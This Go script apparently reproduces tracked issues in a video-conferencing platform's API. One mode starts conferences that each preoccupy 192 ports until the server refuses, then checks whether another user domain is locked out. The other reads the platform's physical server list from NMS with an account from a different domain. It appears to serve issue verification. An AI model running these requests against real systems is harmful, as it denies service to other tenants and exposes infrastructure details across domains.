package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
)

// Issue 38 items 7, 12 and 13, after --domain-share and --platform-domain:
// one account starts conferences of 192 preoccupied ports until refused,
// then an account of another user domain starts one; and that account
// reads the platform's servers from nms.
//
//	go run ./scripts/attack --url ... --key K --secret S --user U --password P --other-user U2 --other-password P2 ports
//	go run ./scripts/attack --url ... --key K --secret S --other-user U2 --other-password P2 nms

// call sends a request with the token and the login cookie.
func call(method, path, token, cookie string, params map[string]any) map[string]any {
	form := url.Values{"account_token": {token}}
	if params != nil {
		b, _ := json.Marshal(params)
		form.Set("params", string(b))
	}
	var req *http.Request
	if method == "GET" {
		req, _ = http.NewRequest(method, *base+path+"?"+form.Encode(), nil)
	} else {
		req, _ = http.NewRequest(method, *base+path, strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	req.AddCookie(&http.Cookie{Name: "SSO_COOKIE_KEY", Value: cookie})
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		panic(err)
	}
	defer resp.Body.Close()
	var out map[string]any
	json.NewDecoder(resp.Body).Decode(&out)
	return out
}

func big(name string) map[string]any {
	return map[string]any{"create_type": 1, "name": name, "duration": 60, "bitrate": 2048, "max_join_mt": 192,
		"preoccupy_resource": 1, "call_mode": 2}
}

func ports() {
	tok, ck := login(*user, *password)
	started := 0
	var last map[string]any
	for i := range 1000 {
		last = call("POST", "/api/v1/mc/confs", tok, ck, big(fmt.Sprintf("attack %d", i)))
		if last["success"] != float64(1) {
			break
		}
		started++
	}
	fmt.Printf("%s started %d conferences of 192 ports, then: %v %v\n", *user, started, last["error_code"], last["description"])
	otok, ock := login(*other, *otherPw)
	r := call("POST", "/api/v1/mc/confs", otok, ock, big("other domain"))
	fmt.Printf("%s (another user domain) starts one: success %v %v %v\n", *other, r["success"], r["error_code"], r["description"])
}

func nmsLeak() {
	otok, ock := login(*other, *otherPw)
	r := call("GET", "/api/v1/nms/domains", otok, ock, nil)
	for _, d := range r["domains"].([]any) {
		m := d.(map[string]any)
		if m["type"] != "platform" {
			continue
		}
		p := call("GET", "/api/v1/nms/platform_domains/"+m["moid"].(string)+"/physicals", otok, ock, nil)
		fmt.Printf("%s reads the platform's servers: success %v %v %v\n", *other, p["success"], p["error_code"], p["physicals"])
	}
}
